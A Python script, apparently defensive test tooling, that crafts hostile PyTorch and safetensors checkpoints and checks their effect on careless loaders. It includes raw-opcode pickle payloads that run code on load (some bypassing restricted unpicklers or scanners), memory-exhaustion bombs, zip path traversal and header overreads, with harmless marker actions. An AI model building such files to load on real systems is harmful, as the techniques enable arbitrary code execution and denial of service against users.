"""Weights files made to do harm, and what each does to a reader without care; run as a script, it shows that they do.

A payload leaves a mark: a folder, a variable of the environment, or an entry of sys.path. The others make a reader that
believes them allocate far more than the file has, read what is not theirs, or write outside of their folder.
"""

import io
import json
import os
import pickle
import resource
import struct
import sys
import types
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch

VARIABLE = "POLAFORMER_HOSTILE"
MEGABYTE = 2**20


class Payload:
    """Makes a folder if it is ever unpickled."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (str(self.path),)


def text(content: object) -> bytes:
    return b"X" + struct.pack("<I", len(str(content).encode())) + str(content).encode()


def short(content: object) -> bytes:
    return b"\x8c" + bytes([len(str(content))]) + str(content).encode()


def number(value: int) -> bytes:
    return b"\x8a\x08" + struct.pack("<q", value)


def numbers(*values: int) -> bytes:
    return b"(" + b"".join(number(value) for value in values) + b"t"


def storage(key: bytes, count: int) -> bytes:
    return b"(" + text("storage") + b"ctorch\nFloatStorage\n" + key + text("cpu") + number(count) + b"tQ"


def tensor(size: tuple[int, ...], stride: tuple[int, ...], count: int = 4, key: bytes | None = None) -> bytes:
    """A tensor of floats over `count` of them stored under a key."""
    where = storage(text("0") if key is None else key, count)
    rest = number(0) + numbers(*size) + numbers(*stride) + b"\x89ccollections\nOrderedDict\n)RtR"
    return b"ctorch._utils\n_rebuild_tensor_v2\n(" + where + rest


def state(**tensors: bytes) -> bytes:
    return b"\x80\x02}(" + b"".join(text(name.replace("__", ".")) + value for name, value in tensors.items()) + b"u."


def write(path: Path, pickled: bytes, parts: dict[str, bytes] | None = None, *, compression: int = zipfile.ZIP_STORED) -> None:
    """In the form of torch.save, with 16 bytes of storage unless told otherwise."""
    with zipfile.ZipFile(path, "w", compression) as archive:
        archive.writestr("archive/data.pkl", pickled)
        for name, data in {"data/0": struct.pack("<4f", 1, 2, 3, 4), **(parts or {}), "version": b"3\n"}.items():
            archive.writestr(f"archive/{name}", data)


def write_twice(path: Path, mark: Path) -> None:
    """Two pickles under one name: a scanner that reads from the front sees another one than PyTorch loads."""
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in (("data.pkl", state(x=tensor((4,), (1,)))), ("dota.pkl", state(y=tensor((2,), (1,))))):
            archive.writestr(f"archive/{name}", data)
        archive.writestr("archive/data/0", struct.pack("<4f", 1, 2, 3, 4))
        archive.writestr("archive/version", b"3\n")
    path.write_bytes(path.read_bytes().replace(b"dota.pkl", b"data.pkl"))


def write_overlapping(path: Path, mark: Path) -> None:
    """A hundred storages of a megabyte that are all the same bytes of the file."""
    tensors = {f"x{n:02d}": tensor((MEGABYTE // 4,), (1,), MEGABYTE // 4, text(f"{n:02d}")) for n in range(100)}
    write(path, state(**tensors), {"data/00": bytes(MEGABYTE)})
    content, _, listed = path.read_bytes().partition(b"PK\1\2")
    entries = [b"PK\1\2" + one for one in listed.partition(b"PK\5\6")[0].split(b"PK\1\2")]
    [shared] = [one for one in entries if one.endswith(b"data/00")]
    entries += [shared[:-2] + f"{n:02d}".encode() for n in range(1, 100)]
    folder = b"".join(entries)
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, len(entries), len(entries), len(folder), len(content), 0)
    path.write_bytes(content + folder + end)


def write_claim(path: Path, mark: Path) -> None:
    """A storage that the list of contents gives 4 GB, in a file of 1 kB."""
    write(path, state(x=tensor((4,), (1,))))
    content = bytearray(path.read_bytes())
    place = content.index(b"PK\1\2", content.index(b"PK\1\2") + 1)  # of data/0
    content[place + 20 : place + 28] = struct.pack("<2I", 2**32 - 2, 2**32 - 2)
    path.write_bytes(content)


def write_two_lists(path: Path, mark: Path) -> None:
    """Two lists of contents: zipfile takes the one before the end record, torch the one at the place named there."""
    large = 16 * MEGABYTE
    write(path, state(x=tensor((large // 4,), (1,), large // 4)), {"data/0": bytes(large)}, compression=zipfile.ZIP_DEFLATED)
    swelling, end = path.read_bytes()[:-22], path.read_bytes()[-22:]
    pickled = state(x=tensor((4,), (1,)))
    write(path, pickled, {"data/0": b""})
    write(path, pickled, {"data/0": bytes(len(swelling) + 22 - path.stat().st_size)})  # so that both lists stand equally far
    path.write_bytes(swelling + path.read_bytes()[:-22] + end)


def write_safetensors(path: Path, shape: list[int], end: int, length: int | None = None) -> None:
    header = json.dumps({"x": {"dtype": "F32", "shape": shape, "data_offsets": [0, end]}}).encode()
    path.write_bytes(struct.pack("<Q", len(header) if length is None else length) + header + bytes(16))


def save(content: Any, path: Path, **options: Any) -> None:
    torch.save(content, path, **options)


PAYLOADS: dict[str, Callable[[Path, Path], None]] = {
    "reduce, as torch.save writes it": lambda path, mark: save({"model": Payload(mark)}, path),
    "reduce, beside a whole state dict": lambda path, mark: save({"model": {"x": torch.ones(2)}, "o": Payload(mark)}, path),
    "reduce, in the old format": lambda path, mark: save(Payload(mark), path, _use_new_zipfile_serialization=False),
    "reduce, a bare pickle": lambda path, mark: path.write_bytes(pickle.dumps(Payload(mark))) and None,
    "reduce, under the name of a configuration": lambda path, mark: write(
        path, b"\x80\x02cyacs.config\nCfgNode\n(cos\nmkdir\n(" + text(mark) + b"tRtR."
    ),
    "reduce, inside the key of a storage": lambda path, mark: write(
        path, state(x=tensor((4,), (1,), key=b"cos\nmkdir\n(" + text(mark) + b"tR"))
    ),
    "eval": lambda path, mark: write(
        path, b"\x80\x02cbuiltins\neval\n(" + text(f"__import__('os').mkdir({str(mark)!r})") + b"tR."
    ),
    "exec": lambda path, mark: write(
        path, b"\x80\x02cbuiltins\nexec\n(" + text(f"import os; os.mkdir({str(mark)!r})") + b"tR."
    ),
    "stack global": lambda path, mark: write(path, b"\x80\x04" + short("os") + short("mkdir") + b"\x93(" + text(mark) + b"tR."),
    "a dotted name below a module that is allowed": lambda path, mark: write(
        path, b"\x80\x04" + short("torch.serialization") + short("os.mkdir") + b"\x93(" + text(mark) + b"tR."
    ),
    "inst": lambda path, mark: write(path, b"\x80\x02(" + text(mark) + b"ios\nmkdir\n."),
    "obj": lambda path, mark: write(path, b"\x80\x02(cos\nmkdir\n" + text(mark) + b"o."),
    # Gives a class a function as its __setstate__, then an object of it that state: BUILD alone runs it.
    "build": lambda path, mark: write(
        path,
        b"\x80\x02cargparse\nNamespace\n(N}" + text("__setstate__") + b"cos\nmkdir\nstb0"
        b"cargparse\nNamespace\n)\x81" + text(mark) + b"b.",
    ),
    "setitem on what is no dict": lambda path, mark: write(
        path, b"\x80\x02cos\nenviron\n" + text(VARIABLE) + text(mark) + b"s."
    ),
    "append to what is no list of its own": lambda path, mark: write(path, b"\x80\x02csys\npath\n" + text(mark) + b"a."),
}
BOMBS: dict[str, Callable[[Path, Path], None]] = {
    "strides of 0": lambda path, mark: write(
        path,
        state(
            block1__0__attn__qg__weight=tensor((80000, 40000), (0, 0)),
            block1__0__attn__kv__weight=tensor((80000, 40000), (0, 0)),
        ),
    ),
    "a compressed storage": lambda path, mark: write(
        path,
        state(x=tensor((16 * MEGABYTE,), (1,), 16 * MEGABYTE)),
        {"data/0": bytes(64 * MEGABYTE)},
        compression=zipfile.ZIP_DEFLATED,
    ),
    "storages that overlap": write_overlapping,
    "a storage larger than the file": write_claim,
    "a storage larger than its record": lambda path, mark: write(
        path, state(x=tensor((8,), (1,), 8)), {"data/1": b"secret" * 9}
    ),
    "a tensor larger than its storage": lambda path, mark: write(path, state(x=tensor((1000,), (1,)))),
    "a name that leads outside": lambda path, mark: write(
        path, state(x=tensor((4,), (1,), key=text("../../../outside"))), {"data/../../../outside": bytes(16)}
    ),
    "two pickles of one name": write_twice,
    "safetensors, a header of any length": lambda path, mark: write_safetensors(path, [4], 16, 2**62),
    "safetensors, a tensor beyond the file": lambda path, mark: write_safetensors(path, [1000], 4000),
    # torch's restricted unpickler calls bytearray.
    "a call that allocates": lambda path, mark: write(
        path, b"\x80\x02}" + text("x") + b"cbuiltins\nbytearray\n(" + number(2**33) + b"tRs."
    ),
    "two lists of contents": write_two_lists,
}
HOSTILE = PAYLOADS | BOMBS


def is_executed(mark: Path) -> bool:
    return mark.exists() or os.environ.get(VARIABLE) == str(mark) or str(mark) in sys.path


class Trusting(pickle.Unpickler):
    """Rebuilds tensors as the file says, over storages that can grow."""

    def __init__(self, archive: zipfile.ZipFile) -> None:
        super().__init__(io.BytesIO(archive.read(archive.infolist()[0])))
        self.archive = archive

    def persistent_load(self, about: Any) -> Any:
        stored = torch.UntypedStorage(list(self.archive.read(f"archive/data/{about[2]}")))
        return torch.storage.TypedStorage(wrap_storage=stored, dtype=torch.float32, _internal=True)


def harm_of_bombs(folder: Path, path_of: Callable[[str], Path]) -> dict[str, bool]:
    """Whether each of BOMBS does its harm to a reader that believes it."""

    def loaded(name: str, **options: Any) -> dict[str, torch.Tensor]:
        return dict(torch.load(path_of(name), weights_only=True, **options))

    def refused(allocate: Callable[[], object]) -> bool:
        """With two gigabytes of memory."""
        used = 4096 * int(Path("/proc/self/statm").read_text().split()[0])
        before = resource.getrlimit(resource.RLIMIT_AS)
        resource.setrlimit(resource.RLIMIT_AS, (used + 2**31, before[1]))
        try:
            allocate()
            return False
        except (RuntimeError, MemoryError, OverflowError):
            return True
        finally:
            resource.setrlimit(resource.RLIMIT_AS, before)

    def grown(name: str) -> float:
        return sum(one.untyped_storage().nbytes() for one in loaded(name).values()) / path_of(name).stat().st_size

    def extracted(name: str) -> bool:
        with zipfile.ZipFile(path_of(name)) as archive:
            for entry in archive.namelist():
                target = Path(os.path.normpath(folder / "below" / entry))
                target.parent.mkdir(parents=True, exist_ok=True)
                target.write_bytes(archive.read(entry))
        return (folder / "outside").exists()

    def trusted(name: str) -> dict[str, torch.Tensor]:
        with zipfile.ZipFile(path_of(name)) as archive:
            return Trusting(archive).load()

    def leaked(name: str) -> bool:
        """To a reader that uses one buffer for many files, and slices it as the header says."""
        buffer = bytearray(b"secret" * 1000)
        with path_of(name).open("rb") as file:
            file.readinto(buffer)
        start = 8 + struct.unpack("<Q", buffer[:8])[0]
        first, last = json.loads(buffer[8:start])["x"]["data_offsets"]
        return b"secret" in buffer[start + first : start + last]

    names = list(BOMBS)
    with zipfile.ZipFile(path_of(names[3])) as archive:
        claimed = archive.getinfo("archive/data/0").file_size
    length = struct.unpack("<Q", path_of(names[8]).read_bytes()[:8])[0]
    return {
        names[0]: refused(lambda: torch.cat(list(loaded(names[0]).values()))),
        names[1]: grown(names[1]) > 500,
        names[2]: grown(names[2]) > 50,
        names[3]: refused(lambda: bytearray(claimed)),
        names[4]: loaded(names[4], mmap=True)["x"].numel() * 4 > 16,
        names[5]: trusted(names[5])["x"].numel() * 4 > 16,
        names[6]: extracted(names[6]),
        names[7]: trusted(names[7]).keys() != loaded(names[7]).keys(),
        names[8]: refused(lambda: bytearray(length)),
        names[9]: leaked(names[9]),
        names[10]: refused(lambda: loaded(names[10])),
        names[11]: grown(names[11]) > 500,
    }


def main(folder: Path) -> None:
    """Loads all without care, and prints what did harm."""
    sys.modules["yacs"] = types.ModuleType("yacs")
    sys.modules["yacs.config"] = types.ModuleType("yacs.config")
    sys.modules["yacs.config"].CfgNode = dict  # type: ignore[attr-defined]
    found: dict[str, bool | str] = {}
    paths = {name: folder / f"{place}.pth" for place, name in enumerate(HOSTILE)}
    for name, make in HOSTILE.items():
        make(paths[name], paths[name].with_suffix(".mark"))
    for name in PAYLOADS:
        try:
            torch.load(paths[name], weights_only=False)
        except Exception as error:  # after the payload, most are no checkpoints
            found[name] = repr(error)
        found[name] = is_executed(paths[name].with_suffix(".mark")) or found.get(name, False)
    print(json.dumps(found | harm_of_bombs(folder, paths.__getitem__)))


if __name__ == "__main__":
    main(Path(sys.argv[1]))
